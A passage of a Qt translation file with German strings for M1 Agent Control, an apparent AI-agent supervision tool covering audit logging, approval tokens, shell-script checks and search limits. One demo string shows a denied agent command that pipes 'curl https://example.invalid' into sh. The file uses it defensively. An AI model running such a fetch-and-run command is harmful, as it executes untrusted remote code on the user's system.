        <source>Reading the schema version of the audit database</source>
        <translation>Lesen der Schemaversion der Prüfprotokoll-Datenbank</translation>
    </message>
    <message>
        <source>The audit database %1 was written by a newer M1 Agent Control (schema version %2); this program knows up to version %3. It was not changed; update M1 Agent Control or point the store at another file.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 wurde von einer neueren Version von M1 Agent Control geschrieben (Schemaversion %2); dieses Programm kennt Versionen bis %3. Sie wurde nicht verändert; aktualisieren Sie M1 Agent Control oder geben Sie für die Prüfprotokoll-Datenbank eine andere Datei an.</translation>
    </message>
    <message>
        <source>The audit database %1 has schema version %2 but this program needs %3; open it read-write once so it can be upgraded.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 hat die Schemaversion %2, dieses Programm benötigt jedoch %3; öffnen Sie sie einmal mit Schreibzugriff, damit sie aktualisiert werden kann.</translation>
    </message>
    <message>
        <source>Starting the schema upgrade</source>
        <translation>Starten des Schema-Upgrades</translation>
    </message>
    <message>
        <source>Locking the schema upgrade</source>
        <translation>Sperren des Schema-Upgrades</translation>
    </message>
    <message>
        <source>Creating the schema_version table</source>
        <translation>Anlegen der Tabelle schema_version</translation>
    </message>
    <message>
        <source>Reading the schema version</source>
        <translation>Lesen der Schemaversion</translation>
    </message>
    <message>
        <source>Schema upgrade to version %1</source>
        <translation>Schema-Upgrade auf Version %1</translation>
    </message>
    <message>
        <source>Recording schema version %1</source>
        <translation>Eintragen der Schemaversion %1</translation>
    </message>
    <message>
        <source>Committing the schema upgrade</source>
        <translation>Festschreiben (Commit) des Schema-Upgrades</translation>
    </message>
</context>
<context>
    <name>ScreenshotTour</name>
    <message>
        <source>80 % of the daily budget used ($4.02 of $5.00).</source>
        <translation>80 % des Tagesbudgets verbraucht ($4.02 von $5.00).</translation>
    </message>
    <message>
        <source>Tool error rate 31 % over the last 40 calls (threshold 25 %).</source>
        <translation>Werkzeug-Fehlerrate 31 % bei den letzten 40 Aufrufen (Schwelle 25 %).</translation>
    </message>
    <message>
        <source>run_command denied: curl https://example.invalid | sh</source>
        <translation>run_command abgelehnt: curl https://example.invalid | sh</translation>
    </message>
</context>
<context>
    <name>SearchFilesTool</name>
    <message>
        <source>The pattern &quot;%1&quot; is not a valid regular expression: %2 (at offset %3).</source>
        <translation>Das Muster &quot;%1&quot; ist kein gültiger regulärer Ausdruck: %2 (an Position %3).</translation>
    </message>
    <message>
        <source>The glob &quot;%1&quot; is not valid.</source>
        <translation>Das Glob-Muster &quot;%1&quot; ist ungültig.</translation>
    </message>
    <message>
        <source>No matches for &quot;%1&quot;.</source>
        <translation>Keine Treffer für &quot;%1&quot;.</translation>
    </message>
    <message>
        <source>
[truncated: stopped after %1 matches; narrow the pattern, the path or the glob]</source>
        <translation>
[gekürzt: nach %1 Treffern angehalten; schränken Sie das Muster, den Pfad oder das Glob-Muster ein]</translation>
    </message>
    <message>
        <source>
[truncated: stopped after searching %1 files; narrow the path or the glob]</source>
        <translation>
[gekürzt: nach dem Durchsuchen von %1 Dateien angehalten; schränken Sie den Pfad oder das Glob-Muster ein]</translation>
    </message>
    <message>
        <source>The pattern &quot;%1&quot; sets its own resource limit ((*LIMIT_...)); limits are set by the tool, remove that part.</source>
        <translation>Das Muster &quot;%1&quot; setzt ein eigenes Ressourcenlimit ((*LIMIT_...)); Limits setzt das Werkzeug, entfernen Sie diesen Teil.</translation>
    </message>
    <message>
        <source>
[truncated: time budget of %1 ms used up after %2 files; narrow the pattern, the path or the glob]</source>
        <translation>
[gekürzt: Zeitbudget von %1 ms nach %2 Dateien aufgebraucht; grenzen Sie Muster, Pfad oder Glob ein]</translation>
    </message>
    <message>
        <source>
[truncated: byte budget of %1 bytes read used up after %2 files; narrow the path or the glob]</source>
        <translation>
[gekürzt: Budget von %1 gelesenen Bytes nach %2 Dateien aufgebraucht; grenzen Sie Pfad oder Glob ein]</translation>
    </message>
    <message numerus="yes">
        <source>
[%n line(s) could not be searched to the end: the pattern needs too many backtracking steps (match limit); they may hold matches: %1]</source>
        <translation>
            <numerusform>
[%n Zeile konnte nicht bis zum Ende durchsucht werden: Das Muster braucht zu viele Backtracking-Schritte (Match-Limit); sie kann Treffer enthalten: %1]</numerusform>
            <numerusform>
[%n Zeilen konnten nicht bis zum Ende durchsucht werden: Das Muster braucht zu viele Backtracking-Schritte (Match-Limit); sie können Treffer enthalten: %1]</numerusform>
        </translation>
    </message>
    <message numerus="yes">
        <source>
[%n file(s) with more than one hard link skipped: a hard link may name a file outside the workspace]</source>
        <translation>
            <numerusform>
[%n Datei mit mehr als einem harten Link übersprungen: Ein harter Link kann eine Datei außerhalb des Arbeitsbereichs bezeichnen]</numerusform>
            <numerusform>
[%n Dateien mit mehr als einem harten Link übersprungen: Ein harter Link kann eine Datei außerhalb des Arbeitsbereichs bezeichnen]</numerusform>
        </translation>
    </message>
</context>
<context>
    <name>SecretStore</name>
    <message>
        <source>The keychain has no entry &quot;%1&quot;.</source>
        <translation>Der Schlüsselbund enthält keinen Eintrag &quot;%1&quot;.</translation>
    </message>
    <message>
        <source>The keychain failed: %1</source>
        <translation>Fehler im Schlüsselbund: %1</translation>
    </message>
    <message>
        <source>M1_JWT_SECRET holds %1 bytes; it needs at least %2 random bytes (for example the output of: openssl rand -base64 48).</source>
        <translation>M1_JWT_SECRET enthält %1 Bytes; es werden mindestens %2 Zufallsbytes benötigt (zum Beispiel die Ausgabe von: openssl rand -base64 48).</translation>
    </message>
    <message>
        <source>The keychain&apos;s JWT secret is shorter than %1 bytes; rotate it.</source>
        <translation>Das JWT-Geheimnis im Schlüsselbund ist kürzer als %1 Bytes; rotieren Sie es.</translation>
    </message>
    <message>
        <source>OpenSSL could not provide random bytes for the JWT secret.</source>
        <translation>OpenSSL konnte keine Zufallsbytes für das JWT-Geheimnis liefern.</translation>
    </message>
    <message>
        <source>M1_JWT_SECRET is set and overrides the keychain; rotating the keychain&apos;s secret would not change the secret in use. Change the variable instead.</source>
        <translation>M1_JWT_SECRET ist gesetzt und hat Vorrang vor dem Schlüsselbund; das Rotieren des Geheimnisses im Schlüsselbund würde das verwendete Geheimnis nicht ändern. Ändern Sie stattdessen die Variable.</translation>
    </message>
    <message>
        <source>No API key configured: set ANTHROPIC_API_KEY or save a key in the settings.</source>
        <translation>Kein API-Schlüssel konfiguriert: Setzen Sie ANTHROPIC_API_KEY oder speichern Sie einen Schlüssel in den Einstellungen.</translation>
    </message>
    <message>
        <source>No API key configured: the keychain entry is empty. Set ANTHROPIC_API_KEY or save a key in the settings.</source>
        <translation>Kein API-Schlüssel konfiguriert: Der Eintrag im Schlüsselbund ist leer. Setzen Sie ANTHROPIC_API_KEY oder speichern Sie einen Schlüssel in den Einstellungen.</translation>
    </message>
    <message>
        <source>An empty API key cannot be saved.</source>
        <translation>Ein leerer API-Schlüssel kann nicht gespeichert werden.</translation>
    </message>
    <message>
        <source>%1 (at least 32 bytes)</source>
        <translation>%1 (mindestens 32 Bytes)</translation>
    </message>
    <message>
        <source>Access to the keychain was denied (%1). Unlock the keychain and try again, or for headless use set %2.</source>
        <translation>Der Zugriff auf den Schlüsselbund wurde verweigert (%1). Entsperren Sie den Schlüsselbund und versuchen Sie es erneut, oder setzen Sie für den Headless-Betrieb %2.</translation>
    </message>
    <message>
        <source>No keychain service is available (%1). Start one that offers the Secret Service D-Bus API, such as GNOME Keyring or KWallet, or for headless use set the environment variable %2.</source>
        <translation>Es ist kein Schlüsselbund-Dienst verfügbar (%1). Starten Sie einen Dienst mit der Secret-Service-D-Bus-API, etwa GNOME Keyring oder KWallet, oder setzen Sie für den Headless-Betrieb die Umgebungsvariable %2.</translation>
    </message>
</context>
<context>
    <name>Settings</name>
    <message>
        <source>Cannot read the settings file %1: %2</source>
        <translation>Die Einstellungsdatei %1 kann nicht gelesen werden: %2</translation>
    </message>
    <message>
        <source>The settings file %1 is invalid: %2</source>
        <translation>Die Einstellungsdatei %1 ist ungültig: %2</translation>
    </message>
    <message>
        <source>%1 at byte %2</source>
        <translation>%1 bei Byte %2</translation>
    </message>
    <message>
        <source>the top level must be a JSON object</source>
        <translation>die oberste Ebene muss ein JSON-Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;%1&quot;</source>
        <translation>unbekannter Schlüssel &quot;%1&quot;</translation>
    </message>
    <message>
        <source>%1 must be true or false</source>
        <translation>%1 muss true oder false sein</translation>
    </message>
    <message>
        <source>%1 must be a whole number from %2 to %3</source>
        <translation>%1 muss eine ganze Zahl von %2 bis %3 sein</translation>
    </message>
    <message>
        <source>approvals must be an object</source>
        <translation>approvals muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown scope &quot;approvals.%1&quot;</source>
        <translation>unbekannter Bereich &quot;approvals.%1&quot;</translation>
    </message>
    <message>
        <source>limits must be an object</source>
        <translation>limits muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;limits.%1&quot;</source>
        <translation>unbekannter Schlüssel &quot;limits.%1&quot;</translation>
    </message>
    <message>
        <source>rateLimits must be an object</source>
        <translation>rateLimits muss ein Objekt sein</translation>
    </message>
    <message>
        <source>%1 must be an object</source>
        <translation>%1 muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;%1.%2&quot;</source>
        <translation>unbekannter Schlüssel &quot;%1.%2&quot;</translation>
    </message>
    <message>
        <source>tokens must be an object</source>
        <translation>tokens muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;tokens.%1&quot;</source>
        <translation>unbekannter Schlüssel &quot;tokens.%1&quot;</translation>
    </message>
    <message>
        <source>policyFile must be a non-empty path</source>
        <translation>policyFile muss ein nicht leerer Pfad sein</translation>
    </message>
    <message>
        <source>monitoring must be an object</source>
        <translation>monitoring muss ein Objekt sein</translation>
    </message>
    <message>
        <source>claude must be an object</source>
        <translation>claude muss ein Objekt sein</translation>
    </message>
    <message>
        <source>unknown key &quot;claude.%1&quot;</source>
        <translation>unbekannter Schlüssel &quot;claude.%1&quot;</translation>
    </message>
    <message>
        <source>claude.baseUrl must be a string</source>
        <translation>claude.baseUrl muss eine Zeichenkette sein</translation>
    </message>
</context>
<context>
    <name>ShellScriptParser</name>
    <message>
        <source>the script redirects output to &quot;%1&quot;</source>
        <translation>das Skript leitet die Ausgabe nach &quot;%1&quot; um</translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; is expanded by the shell (wildcards)</source>
        <translation>das Wort &quot;%1&quot; wird von der Shell expandiert (Wildcards)</translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; uses tilde expansion</source>
        <translation>das Wort &quot;%1&quot; verwendet Tilde-Expansion</translation>
    </message>
    <message>
        <source>the word &quot;%1&quot; uses brace expansion</source>
        <translation>das Wort &quot;%1&quot; verwendet Klammer-Expansion</translation>
    </message>
    <message>
        <source>the script uses the shell construct &quot;%1&quot;</source>
        <translation>das Skript verwendet das Shell-Konstrukt &quot;%1&quot;</translation>
    </message>
    <message>
        <source>the script sets a variable (%1)</source>
        <translation>das Skript setzt eine Variable (%1)</translation>
    </message>
    <message>
        <source>a redirection has no target</source>
        <translation>eine Umleitung hat kein Ziel</translation>
    </message>
    <message>
        <source>unbalanced parentheses in %1</source>
        <translation>unausgeglichene Klammern in %1</translation>
    </message>
    <message>
        <source>an unbalanced backtick</source>
        <translation>ein nicht geschlossener Backtick</translation>
    </message>
    <message>
        <source>the script uses command substitution (`…`)</source>
        <translation>das Skript verwendet Befehlsersetzung (`…`)</translation>
    </message>
    <message>
        <source>the script uses arithmetic expansion $((…))</source>
        <translation>das Skript verwendet arithmetische Expansion $((…))</translation>
    </message>
    <message>
        <source>the script uses command substitution $(…)</source>
        <translation>das Skript verwendet Befehlsersetzung $(…)</translation>
    </message>
    <message>
        <source>the script expands a variable (${…})</source>
        <translation>das Skript expandiert eine Variable (${…})</translation>
    </message>
    <message>
        <source>the script uses $&apos;…&apos; quoting</source>
        <translation>das Skript verwendet die Quotierung $&apos;…&apos;</translation>
    </message>
    <message>
        <source>the script uses $&quot;…&quot; quoting</source>
        <translation>das Skript verwendet die Quotierung $&quot;…&quot;</translation>
    </message>
    <message>
        <source>the script expands a variable ($%1…)</source>
        <translation>das Skript expandiert eine Variable ($%1…)</translation>
    </message>
    <message>
        <source>an unbalanced double quote</source>
        <translation>ein nicht geschlossenes doppeltes Anführungszeichen</translation>
    </message>
    <message>
        <source>the script contains a carriage return</source>
        <translation>das Skript enthält einen Wagenrücklauf</translation>
    </message>
    <message>
        <source>unbalanced parentheses</source>
        <translation>unausgeglichene Klammern</translation>
    </message>
    <message>
        <source>the script defines a function or uses &quot;(&quot; inside a word</source>
        <translation>das Skript definiert eine Funktion oder verwendet &quot;(&quot; innerhalb eines Wortes</translation>
    </message>
    <message>
        <source>the script uses a here-string (&lt;&lt;&lt;)</source>
        <translation>das Skript verwendet einen Here-String (&lt;&lt;&lt;)</translation>
    </message>
    <message>
        <source>the script uses a here-document (&lt;&lt;)</source>
        <translation>das Skript verwendet ein Here-Document (&lt;&lt;)</translation>
    </message>
    <message>
        <source>the script opens a file for writing (&lt;&gt;)</source>
        <translation>das Skript öffnet eine Datei zum Schreiben (&lt;&gt;)</translation>
    </message>
    <message>
        <source>an unbalanced single quote</source>
        <translation>ein nicht geschlossenes einfaches Anführungszeichen</translation>
    </message>
</context>
<context>
    <name>SqlDialect</name>
    <message>
        <source>%1 failed: %2</source>
        <translation>%1 fehlgeschlagen: %2</translation>
    </message>
    <message>
        <source>the audit database is locked by another process for longer than the busy timeout. Nothing was written; try again, or close the other M1 instance.</source>
        <translation>die Prüfprotokoll-Datenbank ist länger als die Wartezeit von einem anderen Prozess gesperrt. Nichts wurde geschrieben; versuchen Sie es erneut, oder schließen Sie die andere M1-Instanz.</translation>
    </message>
    <message>
        <source>the audit database is locked by another process for longer than the busy timeout; try again, or close the other M1 instance.</source>
        <translation>die Prüfprotokoll-Datenbank ist länger als die Wartezeit von einem anderen Prozess gesperrt; versuchen Sie es erneut, oder schließen Sie die andere M1-Instanz.</translation>
    </message>
    <message>
        <source>the audit database has no room left (disk or size limit full). Nothing was written; free space and retry. Tools stay blocked until the audit works.</source>
        <translation>die Prüfprotokoll-Datenbank hat keinen Platz mehr (Datenträger oder Größenlimit voll). Nichts wurde geschrieben; schaffen Sie Platz und versuchen Sie es erneut. Werkzeuge bleiben gesperrt, bis das Prüfprotokoll wieder funktioniert.</translation>
    </message>
    <message>
        <source>the disk or the size limit of the audit database is full; free space and retry.</source>
        <translation>der Datenträger oder das Größenlimit der Prüfprotokoll-Datenbank ist voll; schaffen Sie Platz und versuchen Sie es erneut.</translation>
    </message>
    <message>
        <source>the audit database is read-only. Nothing was written; make the file and its folder writable, or point the store at a writable location.</source>
        <translation>die Prüfprotokoll-Datenbank ist schreibgeschützt. Nichts wurde geschrieben; machen Sie die Datei und ihren Ordner beschreibbar, oder verwenden Sie einen beschreibbaren Ort für die Datenbank.</translation>
    </message>
    <message>
        <source>the audit database cannot be written here (the file, its folder or the file system is read-only); make the file and its folder writable, or point the store at a writable location.</source>
        <translation>die Prüfprotokoll-Datenbank kann hier nicht geschrieben werden (die Datei, ihr Ordner oder das Dateisystem ist schreibgeschützt); machen Sie die Datei und ihren Ordner beschreibbar, oder verwenden Sie einen beschreibbaren Ort für die Datenbank.</translation>
    </message>
    <message>
        <source>the audit database file cannot be opened; check that its folder exists and that you may read and write the file and its folder.</source>
        <translation>die Datei der Prüfprotokoll-Datenbank kann nicht geöffnet werden; prüfen Sie, ob ihr Ordner existiert und ob Sie die Datei und den Ordner lesen und schreiben dürfen.</translation>
    </message>
    <message>
        <source>the audit database is damaged. It was not changed; restore a backup or start a new file elsewhere.</source>
        <translation>die Prüfprotokoll-Datenbank ist beschädigt. Sie wurde nicht verändert; stellen Sie eine Sicherung wieder her oder legen Sie an anderer Stelle eine neue Datei an.</translation>
    </message>
    <message>
        <source>the connection to the database server was lost. Nothing from this step was acknowledged; reconnect and retry.</source>
        <translation>die Verbindung zum Datenbankserver wurde unterbrochen. Nichts aus diesem Schritt wurde bestätigt; verbinden Sie sich neu und versuchen Sie es erneut.</translation>
    </message>
</context>
<context>
    <name>SseParser</name>
    <message>
        <source>The response from the API is too large (limit %1 bytes per line, %2 bytes in total).</source>
        <translation>Die Antwort der API ist zu groß (Limit %1 Bytes pro Zeile, %2 Bytes insgesamt).</translation>
    </message>
    <message>
        <source>The response stream ended in the middle of an event.</source>
        <translation>Der Antwort-Stream endete mitten in einem Ereignis.</translation>
    </message>
</context>
<context>
    <name>StoreConfig</name>
    <message>
        <source>The audit store location &quot;%1&quot; is neither a file path nor a postgresql:// URL.</source>
        <translation>Der Speicherort der Prüfprotokoll-Datenbank &quot;%1&quot; ist weder ein Dateipfad noch eine postgresql://-URL.</translation>
    </message>
    <message>
        <source>The PostgreSQL URL is not valid; expected postgresql://user:password@host:port/database.</source>
        <translation>Die PostgreSQL-URL ist ungültig; erwartet wird postgresql://user:password@host:port/database.</translation>
    </message>
    <message>
        <source>The PostgreSQL URL names no database; expected postgresql://user:password@host:port/database.</source>
        <translation>Die PostgreSQL-URL nennt keine Datenbank; erwartet wird postgresql://user:password@host:port/database.</translation>
    </message>
    <message>
        <source>The PostgreSQL URL option &quot;%1&quot; is not supported (supported: %2).</source>
        <translation>Die PostgreSQL-URL-Option &quot;%1&quot; wird nicht unterstützt (unterstützt: %2).</translation>
    </message>
</context>
<context>
    <name>StoreConnection</name>
    <message>
        <source>Cannot read the audit database %1: %2</source>
        <translation>Die Prüfprotokoll-Datenbank %1 kann nicht gelesen werden: %2</translation>
    </message>
    <message>
        <source>The audit database %1 cannot be used: %2. It was not changed; move it away (or restore a backup) to start a new audit file.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 kann nicht verwendet werden: %2. Sie wurde nicht verändert; verschieben Sie sie (oder stellen Sie eine Sicherung wieder her), um eine neue Prüfprotokoll-Datei anzulegen.</translation>
    </message>
    <message>
        <source>it is not an SQLite database (wrong file header)</source>
        <translation>es ist keine SQLite-Datenbank (falscher Dateikopf)</translation>
    </message>
    <message>
        <source>the header names an impossible page size</source>
        <translation>der Dateikopf nennt eine unmögliche Seitengröße</translation>
    </message>
    <message>
        <source>the file is cut short (%1 bytes is not a whole number of %2-byte pages)</source>
        <translation>die Datei ist abgeschnitten (%1 Bytes sind kein ganzzahliges Vielfaches von %2-Byte-Seiten)</translation>
    </message>
    <message>
        <source>the file is cut short (%1 of %2 pages present)</source>
        <translation>die Datei ist abgeschnitten (%1 von %2 Seiten vorhanden)</translation>
    </message>
    <message>
        <source>The audit database path %1 is a symbolic link; it is refused so that the audit trail cannot be redirected. Configure the real path.</source>
        <translation>Der Pfad der Prüfprotokoll-Datenbank %1 ist ein symbolischer Link; er wird abgelehnt, damit das Prüfprotokoll nicht umgeleitet werden kann. Konfigurieren Sie den tatsächlichen Pfad.</translation>
    </message>
    <message>
        <source>The audit database path %1 is not a regular file.</source>
        <translation>Der Pfad der Prüfprotokoll-Datenbank %1 ist keine reguläre Datei.</translation>
    </message>
    <message>
        <source>Cannot inspect the audit database %1: %2</source>
        <translation>Die Prüfprotokoll-Datenbank %1 kann nicht untersucht werden: %2</translation>
    </message>
    <message>
        <source>The audit database %1 does not exist (opened read-only).</source>
        <translation>Die Prüfprotokoll-Datenbank %1 existiert nicht (schreibgeschützt geöffnet).</translation>
    </message>
    <message>
        <source>Opening the audit database %1</source>
        <translation>Öffnen der Prüfprotokoll-Datenbank %1</translation>
    </message>
    <message>
        <source>Reading the audit database %1</source>
        <translation>Lesen der Prüfprotokoll-Datenbank %1</translation>
    </message>
    <message>
        <source>Configuring the audit database %1 (%2)</source>
        <translation>Konfigurieren der Prüfprotokoll-Datenbank %1 (%2)</translation>
    </message>
    <message>
        <source>The audit database %1 has %2 = &quot;%3&quot; where &quot;%4&quot; is needed for durable, concurrent writes.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 hat %2 = &quot;%3&quot;, für dauerhafte, nebenläufige Schreibvorgänge wird jedoch &quot;%4&quot; benötigt.</translation>
    </message>
    <message>
        <source>Cannot connect to the audit database %1: %2</source>
        <translation>Keine Verbindung zur Prüfprotokoll-Datenbank %1 möglich: %2</translation>
    </message>
    <message>
        <source>Configuring the connection to %1</source>
        <translation>Konfigurieren der Verbindung zu %1</translation>
    </message>
    <message>
        <source>The audit database %1 does not confirm synchronous_commit = on.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 bestätigt synchronous_commit = on nicht.</translation>
    </message>
    <message>
        <source>Cannot create the audit folder %1: %2. Make its parent folder writable, or give another database with --db PATH_OR_URL (or XDG_DATA_HOME).</source>
        <translation>Der Prüfprotokoll-Ordner %1 kann nicht angelegt werden: %2. Machen Sie den übergeordneten Ordner beschreibbar, oder geben Sie mit --db PATH_OR_URL (oder XDG_DATA_HOME) eine andere Datenbank an.</translation>
    </message>
    <message>
        <source>Cannot create the audit database %1: %2. Make its folder writable, or give another database with --db PATH_OR_URL.</source>
        <translation>Die Prüfprotokoll-Datenbank %1 kann nicht angelegt werden: %2. Machen Sie ihren Ordner beschreibbar, oder geben Sie mit --db PATH_OR_URL eine andere Datenbank an.</translation>
    </message>
</context>
<context>
    <name>StreamAssembler</name>
    <message>
        <source>Malformed &quot;%1&quot; event (event %2 of the stream): %3</source>
        <translation>Fehlerhaftes &quot;%1&quot;-Ereignis (Ereignis %2 des Streams): %3</translation>
    </message>
    <message>
        <source>the data is not a JSON object</source>
        <translation>die Daten sind kein JSON-Objekt</translation>
    </message>
    <message>
        <source>a second message_start</source>
        <translation>ein zweites message_start</translation>
    </message>
    <message>
        <source>no message id</source>
        <translation>keine Nachrichten-ID</translation>
    </message>
    <message>
        <source>it came before message_start</source>
        <translation>es kam vor message_start</translation>
    </message>
    <message>
        <source>no valid index</source>
        <translation>kein gültiger Index</translation>
    </message>
    <message>
        <source>no delta object</source>
        <translation>kein delta-Objekt</translation>
    </message>
    <message>
        <source>%1 without a string &quot;%2&quot;</source>
        <translation>%1 ohne Zeichenkette &quot;%2&quot;</translation>
    </message>
    <message>
        <source>stop_reason is not a string</source>
        <translation>stop_reason ist keine Zeichenkette</translation>
    </message>
    <message>
        <source>no content_block object</source>
        <translation>kein content_block-Objekt</translation>
    </message>
    <message>
        <source>block %1 started twice</source>
        <translation>Block %1 zweimal gestartet</translation>
    </message>
    <message>
        <source>tool_use block %1 without id or name</source>
        <translation>tool_use-Block %1 ohne id oder name</translation>
    </message>
    <message>
        <source>delta for block %1, which was never started</source>
        <translation>delta für Block %1, der nie gestartet wurde</translation>
    </message>
    <message>
        <source>delta for block %1 after its stop</source>
        <translation>delta für Block %1 nach dessen Ende</translation>
    </message>
    <message>
        <source>%1 for a %2 block</source>
        <translation>%1 für einen %2-Block</translation>
    </message>
    <message>
        <source>stop for block %1, which was never started</source>
        <translation>stop für Block %1, der nie gestartet wurde</translation>
    </message>
    <message>
        <source>block %1 stopped twice</source>
        <translation>Block %1 zweimal beendet</translation>
    </message>
    <message>
        <source>The model produced invalid tool input (tool &quot;%1&quot;, block %2): %3</source>
        <translation>Das Modell hat eine ungültige Werkzeugeingabe erzeugt (Werkzeug &quot;%1&quot;, Block %2): %3</translation>
    </message>
    <message>
        <source>not a JSON object</source>
        <translation>kein JSON-Objekt</translation>
    </message>
    <message>
        <source>block %1 was never stopped</source>
        <translation>Block %1 wurde nie beendet</translation>
    </message>
</context>
<context>
    <name>TokenLedger</name>
    <message>
        <source>Cannot open the token ledger in the audit database (%1): %2</source>
        <translation>Das Token-Register in der Prüfprotokoll-Datenbank kann nicht geöffnet werden (%1): %2</translation>
    </message>
    <message>
        <source>Approval token %1 was already used; approve the call again.</source>
        <translation>Freigabe-Token %1 wurde bereits verwendet; geben Sie den Aufruf erneut frei.</translation>
    </message>
    <message>
        <source>Approval token %1 was revoked.</source>
        <translation>Freigabe-Token %1 wurde widerrufen.</translation>
    </message>
</context>
<context>
    <name>TokenService</name>
    <message>
        <source>Approval token refused (%1): %2</source>
        <translation>Freigabe-Token zurückgewiesen (%1): %2</translation>
    </message>
    <message>
        <source>Approval token %1 refused (%2): %3</source>
        <translation>Freigabe-Token %1 zurückgewiesen (%2): %3</translation>
    </message>
    <message>
        <source>Approval token %1 (unverified id) refused (%2): %3</source>
        <translation>Freigabe-Token %1 (ungeprüfte ID) zurückgewiesen (%2): %3</translation>
    </message>
    <message>
        <source>The signing secret has %1 bytes; at least %2 are required.</source>
        <translation>Das Signaturgeheimnis hat %1 Bytes; mindestens %2 sind erforderlich.</translation>
    </message>
    <message>
        <source>Invalid token options: lifetimes must be positive with the default at most the maximum, and the leeway between 0 and %1 seconds.</source>
        <translation>Ungültige Token-Optionen: Gültigkeitsdauern müssen positiv sein, der Standardwert darf höchstens dem Maximum entsprechen und die Toleranz muss zwischen 0 und %1 Sekunden liegen.</translation>
    </message>
    <message>
        <source>OpenSSL could not set up HMAC-SHA256 with the signing secret.</source>
        <translation>OpenSSL konnte HMAC-SHA256 nicht mit dem Signaturgeheimnis einrichten.</translation>
    </message>
    <message>
        <source>A token lifetime must lie between 1 and %1 seconds.</source>
        <translation>Die Gültigkeitsdauer eines Tokens muss zwischen 1 und %1 Sekunden liegen.</translation>
    </message>
    <message>
        <source>A token must name a tool.</source>
        <translation>Ein Token muss ein Werkzeug benennen.</translation>
    </message>
    <message>
        <source>The arguments could not be hashed.</source>
        <translation>Die Argumente konnten nicht gehasht werden.</translation>
    </message>
    <message>
        <source>The token could not be signed.</source>
        <translation>Der Token konnte nicht signiert werden.</translation>
    </message>
    <message>
        <source>the token id (jti) is missing or not a UUID</source>
        <translation>die Token-ID (jti) fehlt oder ist keine UUID</translation>
    </message>
    <message>
        <source>longer than %1 bytes</source>
        <translation>länger als %1 Bytes</translation>
    </message>
    <message>
        <source>contains characters outside base64url</source>
        <translation>enthält Zeichen außerhalb von base64url</translation>
    </message>
    <message>
        <source>a token has exactly three parts separated by dots</source>
        <translation>ein Token besteht aus genau drei durch Punkte getrennten Teilen</translation>
    </message>
    <message>
        <source>a part of the token is empty</source>
        <translation>ein Teil des Tokens ist leer</translation>
    </message>
    <message>
        <source>the header is not valid base64url</source>
        <translation>der Header ist kein gültiges base64url</translation>
    </message>
    <message>
        <source>the header is not valid JSON</source>
        <translation>der Header ist kein gültiges JSON</translation>
    </message>
    <message>
        <source>the header is not a JSON object and names no algorithm; only HS256 is accepted</source>
        <translation>der Header ist kein JSON-Objekt und nennt keinen Algorithmus; nur HS256 wird akzeptiert</translation>
    </message>
    <message>
        <source>the header&apos;s algorithm is not HS256, the only algorithm accepted</source>
        <translation>der Algorithmus im Header ist nicht HS256, der einzige akzeptierte Algorithmus</translation>
    </message>
    <message>
        <source>the header carries the field &quot;%1&quot;, which approval tokens never use</source>
        <translation>der Header enthält das Feld &quot;%1&quot;, das Freigabe-Tokens nie verwenden</translation>
    </message>
    <message>
        <source>the header carries an unsupported field</source>
        <translation>der Header enthält ein nicht unterstütztes Feld</translation>
    </message>
    <message>
        <source>the header&apos;s type is not JWT; this is another kind of token</source>
        <translation>der Typ im Header ist nicht JWT; dies ist eine andere Art von Token</translation>
    </message>
    <message>
        <source>the token carries no signature</source>
        <translation>der Token enthält keine Signatur</translation>
    </message>
    <message>
        <source>the signature is not valid base64url</source>
        <translation>die Signatur ist kein gültiges base64url</translation>
    </message>
    <message>
        <source>the signature could not be computed</source>
        <translation>die Signatur konnte nicht berechnet werden</translation>
    </message>
    <message>
        <source>the signature does not match (forged, altered, or signed with another secret, e.g. before the secret was rotated)</source>
        <translation>die Signatur stimmt nicht überein (gefälscht, verändert oder mit einem anderen Geheimnis signiert, z. B. bevor das Geheimnis gewechselt wurde)</translation>
    </message>
    <message>
        <source>the payload is not valid base64url</source>
        <translation>die Nutzdaten (Payload) sind kein gültiges base64url</translation>
    </message>
    <message>
        <source>the payload is not a JSON object</source>
        <translation>die Nutzdaten (Payload) sind kein JSON-Objekt</translation>
    </message>
    <message>
        <source>a required claim (iss, sub, toolName, scope, runId, argsSha256) is missing or not a string</source>
        <translation>ein erforderlicher Claim (iss, sub, toolName, scope, runId, argsSha256) fehlt oder ist keine Zeichenkette</translation>
    </message>
    <message>
        <source>iat and exp (and nbf if present) must be whole seconds written as JSON integers between 0 and 2^53</source>
        <translation>iat und exp (und nbf, falls vorhanden) müssen ganze Sekunden sein, geschrieben als JSON-Ganzzahlen zwischen 0 und 2^53</translation>
    </message>
    <message>
        <source>the token was not issued by m1-agent-control</source>
        <translation>der Token wurde nicht von m1-agent-control ausgestellt</translation>
    </message>
    <message>
        <source>the token is not an approval token</source>
        <translation>der Token ist kein Freigabe-Token</translation>
    </message>
    <message>
        <source>the scope claim is not read, write or execute</source>
        <translation>der Claim scope ist weder read noch write noch execute</translation>
    </message>
    <message>
        <source>the toolName claim is empty</source>
        <translation>der Claim toolName ist leer</translation>
    </message>
    <message>
        <source>argsSha256 is not 64 lowercase hexadecimal digits</source>
        <translation>argsSha256 besteht nicht aus 64 kleingeschriebenen Hexadezimalziffern</translation>
    </message>
    <message>
        <source>the lifetime (exp - iat = %1 s) lies outside (0, %2] seconds</source>
        <translation>die Gültigkeitsdauer (exp - iat = %1 s) liegt außerhalb von (0, %2] Sekunden</translation>
    </message>
    <message>
        <source>expired at %1 (now %2, leeway %3 s); approve the call again</source>
        <translation>abgelaufen um %1 (jetzt %2, Toleranz %3 s); geben Sie den Aufruf erneut frei</translation>
    </message>
    <message>
        <source>not valid before %1 (now %2, leeway %3 s)</source>
        <translation>nicht gültig vor %1 (jetzt %2, Toleranz %3 s)</translation>
    </message>
    <message>
        <source>issued in the future at %1 (now %2, leeway %3 s)</source>
        <translation>in der Zukunft ausgestellt, um %1 (jetzt %2, Toleranz %3 s)</translation>
    </message>
    <message>
